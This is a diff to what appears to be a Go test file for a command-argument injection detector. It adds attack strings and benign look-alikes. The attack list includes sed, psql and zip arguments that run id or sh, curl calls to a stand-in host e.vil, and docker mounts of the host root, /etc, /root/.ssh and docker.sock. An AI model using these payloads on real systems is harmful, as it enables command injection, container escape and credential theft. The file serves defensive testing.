@@ -59,9 +59,10 @@ var argumentAttacks = []string{
 	// a tenth fresh-eyes attack's (attack 14) still open then: sed,
 	// docker, psql, npm and 7-Zip (210190)
 	"1e id", "e id", "$e id", "1eid", "e\tsh -c id", "/x/e sh -c id", "1,3e curl http://e.vil", "s/x/id/e", "s/a/b/ge",
-	"-v /:/host", "-v /var/run/docker.sock:/var/run/docker.sock", "--volume=/:/host", "--mount type=bind,source=/,target=/h", "--privileged",
+	"-v /:/host", "-v /var/run/docker.sock:/var/run/docker.sock", "--volume=/:/host", "--mount type=bind,source=/,target=/h", "-v /etc:/x",
+	"--volume /root/.ssh:/k", "--mount type=bind,src=/var/run/docker.sock,dst=/s", "-v/proc:/p",
 	"\\! id", "-c \\! id", "-c '\\! id'", "\\o |id", "--command=\\! id", "x' \\g |sh", "x' \\! curl e.vil",
-	"--script-shell=/srv/uploads/x.sh", "--prefix=./x", "--prefix /", "-so", "-so x.7z",
+	"--script-shell=/srv/uploads/x.sh", "-so",
 	// a twelfth fresh-eyes attack's (attack 16) B15: zip, sqlite3 and
 	// Ghostscript (210190)
 	"-T -TT id", "-T --unzip-command id", "--unzip-command=id", "-TT id", "-T --unzip-c=id", "-cmd .shell id", "-cmd .system id", "--cmd=.shell id",
@@ -69,6 +70,13 @@ var argumentAttacks = []string{
 }
 
 var execBenign = []string{
+	// attack 17's false positives of 210190 before it read only the
+	// host's system paths in mounts, left --privileged, npm's --prefix
+	// and -so before more alone, and sed's e without an address only
+	// before an option or the end
+	"-v /data:/var/lib/postgresql/data -p 5432:5432", "-v /srv/app:/app", "--mount type=bind,source=/home2/ann/project,target=/work",
+	"--privileged", "--prefix ./frontend run build", "--prefix /srv/www/app install", "-so -tzip archive.zip", "e id card renewal appointment",
+	"-so what", "-v /etcetera:/x", "-v pgdata:/var/lib/postgresql/data", "--volume /cache:/cache",
 	// 210183's any word then an operator, before attack 16's session:
 	// changelog lines and list items
 	"-Fixed crash when saving (issue 12)", "-Improved sync speed (2x)", "-Italy pizza & pasta", "-Fixed a crash; thanks to Ann",
